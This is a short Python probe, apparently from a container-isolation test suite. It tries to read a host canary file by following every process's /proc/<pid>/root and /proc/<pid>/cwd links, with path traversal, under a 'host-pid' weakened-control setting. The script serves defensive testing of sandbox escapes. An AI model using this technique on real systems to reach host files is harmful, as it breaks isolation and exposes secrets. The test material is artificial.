# Goes through /proc/<pid>/root and /proc/<pid>/cwd of every process in sight, pid 1 first.
# Why it matters: these links lead into the mount namespace of that process, whatever our own root is.
# When it works: the host's secret is read through somebody else's root.
# control: weakened: host-pid
import os

from attempt import blocked, fact, read_canary, run


def attempt():
    pids = sorted((int(name) for name in os.listdir("/proc") if name.isdigit()))
    refused = 0
    for pid in pids:
        for door in ("root", "cwd"):
            try:
                read_canary(f"/proc/{pid}/{door}/" + "../" * 20 + fact("HOST_FILE").lstrip("/"))
                read_canary(f"/proc/{pid}/{door}{fact('HOST_FILE')}")
            except OSError:
                refused += 1
    blocked(f"{len(pids)} processes in sight, {refused} doors tried, none leads to the host")


run(attempt)
